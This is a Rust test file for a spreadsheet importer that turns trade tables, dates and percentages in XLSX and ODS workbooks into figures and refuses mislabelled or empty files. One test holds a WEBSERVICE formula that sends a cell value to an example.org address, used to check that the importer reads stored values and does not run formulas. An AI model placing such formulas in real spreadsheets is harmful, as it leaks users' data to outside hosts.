//! Spreadsheets: merged headers, dates as numbers, percentages, several sheets.

use super::{answers, figures, left, questions, read, rows, text};
use bilateral::import::Answers;
use rust_xlsxwriter::{ExcelDateTime, Format, Formula, Workbook};
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;

/// The wide yearly table of a statistical office.
pub(crate) fn yearly() -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Trade").unwrap();
    sheet.write(0, 0, "Foreign trade, USD million").unwrap();
    let plain = Format::new();
    sheet.merge_range(2, 0, 3, 0, "Country", &plain).unwrap();
    sheet.merge_range(2, 1, 2, 3, "Exports", &plain).unwrap();
    sheet.merge_range(2, 4, 2, 6, "Imports", &plain).unwrap();
    for (at, year) in [2019, 2020, 2021, 2019, 2020, 2021].into_iter().enumerate() {
        sheet.write(3, at as u16 + 1, year).unwrap();
    }
    for (row, country, base) in [(4, "Italy", 100.5), (5, "Türkiye", 0.1 + 0.2), (6, "Россия", 1e9)]
    {
        sheet.write(row, 0, country).unwrap();
        for column in 1..=6_u16 {
            sheet.write(row, column, base * f64::from(column)).unwrap();
        }
    }
    sheet.write(8, 0, "Source: Statistical office").unwrap();
    book.save_to_buffer().unwrap()
}

#[test]
fn a_wide_yearly_table_with_merged_headers() {
    let imported = read("trade.xlsx", &yearly(), &answers()).unwrap();
    assert_eq!(questions(&imported), [""; 0]);
    let figures = figures(&imported);
    assert_eq!(figures.len(), 18);
    assert_eq!(figures[0], "IT exports 100500000 USD 2019");
    assert_eq!(figures[5], "IT imports 603000000 USD 2021");
    // As a spreadsheet shows it, not 0.30000000000000004.
    assert_eq!(figures[6], "TR exports 300000 USD 2019");
    assert_eq!(imported.meta.title, "Foreign trade, USD million");
    let value = &imported.table("figures").unwrap().rows[0].from;
    assert!(value.iter().any(|(_, at)| (at.row, at.column) == (4, 1)), "{value:?}");
}

#[test]
fn dates_percentages_and_numbers_as_cells_hold_them() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, header) in ["Date", "Country", "Exports, EUR", "Share", "Staff"].iter().enumerate()
    {
        sheet.write(0, column as u16, *header).unwrap();
    }
    let date = Format::new().set_num_format("dd.mm.yyyy");
    let percent = Format::new().set_num_format("0.0%");
    for row in 1..=2_u32 {
        let day = ExcelDateTime::from_ymd(2020, 5, row as u8).unwrap();
        sheet.write_with_format(row, 0, &day, &date).unwrap();
        sheet.write(row, 1, "Italy").unwrap();
        sheet.write(row, 2, 1000.25 * f64::from(row)).unwrap();
        sheet.write_with_format(row, 3, 0.45, &percent).unwrap();
        sheet.write(row, 4, 1992 + row * 7).unwrap();
    }
    let imported = read("b.xlsx", &book.save_to_buffer().unwrap(), &answers()).unwrap();
    assert_eq!(questions(&imported), [""; 0]);
    assert_eq!(
        figures(&imported),
        ["IT exports 1000.25 EUR 2020-05-01", "IT exports 2000.5 EUR 2020-05-02"]
    );
    let left = left(&imported);
    assert_eq!(left.len(), 2, "{left:?}");
    assert!(left[0].starts_with("Sheet1!D1:D3: \"Share\": a percentage of a whole"), "{left:?}");
    assert!(left[1].starts_with("Sheet1!E1:E3: \"Staff\""), "{left:?}");
}

#[test]
fn a_day_that_lost_its_format_is_counted_and_told() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, header) in ["country", "date", "exports (USD)"].iter().enumerate() {
        sheet.write(0, column as u16, *header).unwrap();
    }
    sheet.write(1, 0, "Italy").unwrap();
    sheet.write(1, 1, 43831).unwrap();
    sheet.write(1, 2, 5).unwrap();
    let imported = read("b.xlsx", &book.save_to_buffer().unwrap(), &answers()).unwrap();
    assert_eq!(figures(&imported), ["IT exports 5 USD 2020-01-01"]);
    let said: Vec<String> = imported.inferred.iter().map(ToString::to_string).collect();
    let told = "Sheet1!B2: \"43831\" is 2020-01-01: a spreadsheet's count of days";
    assert!(said.iter().any(|one| one == told), "{said:?}");
    // A text does not say how its days are counted.
    let imported = text("country,date,exports (USD)\nItaly,43831,5\n", &answers());
    assert!(figures(&imported).is_empty());
    let answers = &imported.questions[0].answers;
    assert_eq!(answers[0], "--read \"43831=2020-01-01\"");
}

#[test]
fn several_sheets_and_one_of_them() {
    let mut book = Workbook::new();
    for name in ["Exports", "Imports"] {
        let sheet = book.add_worksheet();
        sheet.set_name(name).unwrap();
        sheet.write(0, 0, "Country").unwrap();
        sheet.write(0, 1, 2020).unwrap();
        sheet.write(0, 2, 2021).unwrap();
        sheet.write(1, 0, "Italy").unwrap();
        sheet.write(1, 1, 5).unwrap();
        sheet.write(1, 2, 6).unwrap();
    }
    let bytes = book.save_to_buffer().unwrap();
    let both = Answers { unit: Some("USD".into()), ..answers() };
    assert_eq!(
        figures(&read("b.xlsx", &bytes, &both).unwrap()),
        [
            "IT exports 5 USD 2020",
            "IT exports 6 USD 2021",
            "IT imports 5 USD 2020",
            "IT imports 6 USD 2021",
        ]
    );
    let one = Answers { sheets: vec!["Imports".into()], ..both };
    assert_eq!(figures(&read("b.xlsx", &bytes, &one).unwrap()).len(), 2);
}

#[test]
fn a_formula_is_its_stored_value() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, header) in ["country", "year", "exports (USD)"].iter().enumerate() {
        sheet.write(0, column as u16, *header).unwrap();
    }
    sheet.write(1, 0, "Italy").unwrap();
    sheet.write(1, 1, 2020).unwrap();
    let formula = Formula::new("=WEBSERVICE(\"https://example.org/?\"&A2)").set_result("7");
    sheet.write(1, 2, formula).unwrap();
    let imported = read("b.xlsx", &book.save_to_buffer().unwrap(), &answers()).unwrap();
    assert_eq!(figures(&imported), ["IT exports 7 USD 2020"]);
}

#[test]
fn a_date_is_no_more_than_its_cell_shows() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write(0, 0, "Exports, USD").unwrap();
    sheet.write(1, 0, "Country").unwrap();
    sheet.write(2, 0, "Italy").unwrap();
    for (column, format) in ["mmm-yy", "[$-409]mmmm yyyy", "yyyy", "dd.mm.yyyy"].iter().enumerate()
    {
        let format = Format::new().set_num_format(*format);
        let day = ExcelDateTime::from_ymd(2020 + column as u16, 5, 1).unwrap();
        sheet.write_with_format(1, column as u16 + 1, &day, &format).unwrap();
        sheet.write(2, column as u16 + 1, 7).unwrap();
    }
    let imported = read("b.xlsx", &book.save_to_buffer().unwrap(), &answers()).unwrap();
    assert_eq!(questions(&imported), [""; 0]);
    let periods = rows(&imported, "figures", &["period"]);
    assert_eq!(periods, ["2020-05", "2021-05", "2022", "2023-05-01"]);
}

#[test]
fn what_is_not_what_its_name_says_is_told_or_refused() {
    let imported =
        read("t.xlsx", b"country,year,exports (USD)\nItaly,2020,5\n", &answers()).unwrap();
    let said: Vec<String> = imported.inferred.iter().map(ToString::to_string).collect();
    let told = "t.xlsx: is called a spreadsheet and is a text: read as a text";
    assert_eq!(said[0], told);
    let pages = [
        "<html><table><tr><td>Italy",
        "\u{feff}<?xml version=\"1.0\"?><Workbook/>",
        "<table><tr><td>Italy</table>\n",
    ];
    for page in pages {
        let refused = read("t.xls", page.as_bytes(), &answers()).unwrap_err();
        assert!(refused.what.form.contains("save it as XLSX or CSV"), "{refused}");
    }
    // A first cell may begin as markup, an archive or a PDF does.
    for first in ["<b", "<!", "<?", "<n/a>", "PK", "PKR", "%PDF"] {
        let table = format!("{first},2020\nItaly,5\n");
        let imported = read("t.csv", table.as_bytes(), &answers());
        assert!(imported.is_ok(), "{:?}", imported.err());
    }
    let empty = zip::ZipWriter::new(Cursor::new(Vec::new())).finish().unwrap().into_inner();
    let refused = read("e.zip", &empty, &answers()).unwrap_err();
    assert_eq!(refused.to_string(), "e.zip: an archive without a file");
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file("photo.jpg", SimpleFileOptions::default()).unwrap();
    zip.write_all(b"no table").unwrap();
    let refused = read("p.zip", &zip.finish().unwrap().into_inner(), &answers()).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "p.zip: an archive without a table: 1 files, none CSV, TSV or JSON"
    );
}

/// An ODS with one sheet of these rows.
pub(crate) fn ods(rows: &str) -> Vec<u8> {
    let content = format!(
        "<?xml version=\"1.0\"?><office:document-content \
         xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body>\
         <office:spreadsheet><table:table table:name=\"Blatt\">{rows}</table:table>\
         </office:spreadsheet></office:body></office:document-content>"
    );
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let manifest = "<?xml version=\"1.0\"?><manifest:manifest \
         xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"/>";
    for (name, text) in [
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", manifest),
        ("content.xml", &content),
    ] {
        zip.start_file(name, SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

pub(crate) fn row(cells: &[&str]) -> String {
    format!("<table:table-row>{}</table:table-row>", cells.concat())
}

pub(crate) fn words(text: &str) -> String {
    format!(
        "<table:table-cell office:value-type=\"string\"><text:p>{text}</text:p></table:table-cell>"
    )
}

fn number(value: &str, kind: &str) -> String {
    format!(
        "<table:table-cell office:value-type=\"{kind}\" office:value=\"{value}\"><text:p>{value}</text:p></table:table-cell>"
    )
}

#[test]
fn an_open_document_sheet() {
    let day = "<table:table-cell office:value-type=\"date\" office:date-value=\"2020-05-01\"><text:p>1.5.20</text:p></table:table-cell>";
    let sheet = [
        row(&[&words("Datum"), &words("Land"), &words("Ausfuhr, EUR"), &words("Anteil")]),
        row(&[day, &words("Italien"), &number("12.5", "float"), &number("0.45", "percentage")]),
    ];
    let imported = read("b.ods", &ods(&sheet.concat()), &answers()).unwrap();
    assert_eq!(questions(&imported), [""; 0]);
    assert_eq!(figures(&imported), ["IT exports 12.5 EUR 2020-05-01"]);
    assert!(
        left(&imported)[0].starts_with("Blatt!D1:D2: \"Anteil\": a percentage"),
        "{:?}",
        left(&imported)
    );
}

#[test]
fn an_old_workbook_says_how_to_save_it() {
    let refused = read("b.xls", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", &answers()).unwrap_err();
    assert!(refused.to_string().contains("save it as XLSX or CSV"));
}

#[test]
fn notes_of_cells_go_with_their_rows() {
    let imported = read(
        "t.csv",
        b"country,year,exports (USD),comment\nItaly,2020,5,\"two\nlines\"\n",
        &answers(),
    );
    assert_eq!(rows(&imported.unwrap(), "notes", &["text_en"]), ["two lines"]);
}
